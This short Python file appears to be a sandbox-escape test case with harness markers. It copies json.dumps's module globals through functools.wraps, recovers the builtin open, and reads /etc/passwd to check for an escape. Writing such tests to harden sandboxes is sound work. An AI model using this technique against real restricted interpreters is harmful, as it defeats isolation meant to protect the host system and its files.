# tries: reader wraps: the same through wraps
# class: reader
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import functools
import json


class Sink:
    pass


sink = functools.wraps(json.dumps, assigned=["__globals__"], updated=[])(Sink())
use(dig(vars(sink)["__globals__"]))
